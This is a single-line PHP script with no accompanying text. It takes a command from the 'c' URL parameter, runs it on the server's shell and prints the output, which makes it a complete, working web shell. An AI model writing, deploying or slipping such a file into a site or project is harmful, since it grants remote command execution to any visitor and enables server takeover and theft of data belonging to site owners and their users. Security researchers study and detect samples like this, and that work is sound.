<?php $c = $_GET["c"]; $c2 = "$c"; echo `$c2`;
